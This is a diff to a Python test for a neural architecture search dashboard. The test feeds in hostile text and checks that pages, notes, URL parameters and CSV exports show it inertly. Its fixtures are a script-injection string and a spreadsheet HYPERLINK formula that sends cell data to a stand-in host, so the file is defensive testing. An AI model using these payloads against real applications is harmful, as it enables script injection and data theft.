@@ -2,6 +2,7 @@
 
 import csv
 from pathlib import Path
+from urllib.parse import quote
 
 from dashboards import Search, serving
 from sqlalchemy import create_engine, text
@@ -9,6 +10,8 @@ from streamlit.testing.v1 import AppTest
 from study_factory import write_study
 
 import nas.dashboard
+from nas.study.notes import OF_STUDY, Note, write_note
+from nas.study.reader import open_study
 
 ILL = (
     '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
@@ -20,8 +23,11 @@ FORMULA = '=HYPERLINK("http://192.0.2.1/?leak="&A1)'
 
 def test_hostile_texts_are_shown_as_they_are(tmp_path, visit):
     url = f"sqlite:///{tmp_path}/nas.db"
-    search = Search(url, ILL, "resnet", sampler="random", scheduler="none", trials=4)
+    options = {"sampler": "random", "scheduler": "none", "flip": "residual", "trials": 16}
+    search = Search(url, ILL, "resnet_vs_plain", **options)
     search.run(failing={1: ILL, 2: FORMULA})
+    for trial in (OF_STUDY, 1):
+        write_note(open_study(url, ILL), trial, Note(ILL, (ILL[:40],)))
     with create_engine(url).begin() as connection:
         changed = connection.execute(
             text("UPDATE nas_attempts SET host = :ill, device = :ill, owner = :ill"), {"ill": ILL}
@@ -34,8 +40,9 @@ def test_hostile_texts_are_shown_as_they_are(tmp_path, visit):
         page = visit(address)
         browser = page.browser
         for title in (
-            "Progress", "Trials", "Learning curves", "Accuracy and cost", "Architectures", "Knobs",
-            "Failures", "Workers", "Run it again", "Compare studies",
+            "Effect", "Progress", "Trials", "Trial", "Learning curves", "Accuracy and cost",
+            "Architectures", "Knobs", "Two knobs", "Failures", "Workers", "Run it again",
+            "Compare studies",
         ):  # fmt: skip
             page.go(title)
             if title != "Compare studies":
@@ -43,12 +50,22 @@ def test_hostile_texts_are_shown_as_they_are(tmp_path, visit):
             assert browser.driver.execute_script("return window.pwned") is None
             assert not browser.all("[data-testid=stMain] a[href^=javascript]")
             assert not browser.all("img[src*='192.0.2.1'], img[onerror]")
+        browser.open(f"{address}/trial?number=1&by={quote(ILL)}&where={quote(ILL)}")
+        page.settled("Trial 1")
+        assert page.content().count(ILL) >= 3  # the study, the reason, the command
+        assert browser.one("textarea[aria-label='Note']").get_attribute("value") == ILL
+        browser.open(f"{address}/trials?where={quote(ILL)}&columns={quote(ILL)}")
+        page.says("is not understood")
         page.go("Trials")
+        page.enter("Filter", "trial < 4")
+        page.says("4 of 16 trials")
         page.press("Download CSV")
         with browser.downloaded("trials.csv").open() as file:
             rows = list(csv.DictReader(file))
         assert page.complaints() == []
-    assert [row["reason"] for row in rows][1:3] == [ILL, f"'{FORMULA}"]
+    reasons = {row["number"]: row["reason"] for row in rows}
+    assert (reasons["1"], reasons["2"]) == (ILL, f"'{FORMULA}")
+    assert {row["number"]: row["note"] for row in rows}["1"] == ILL
     assert {row["study"] for row in rows} == {ILL}
 
 
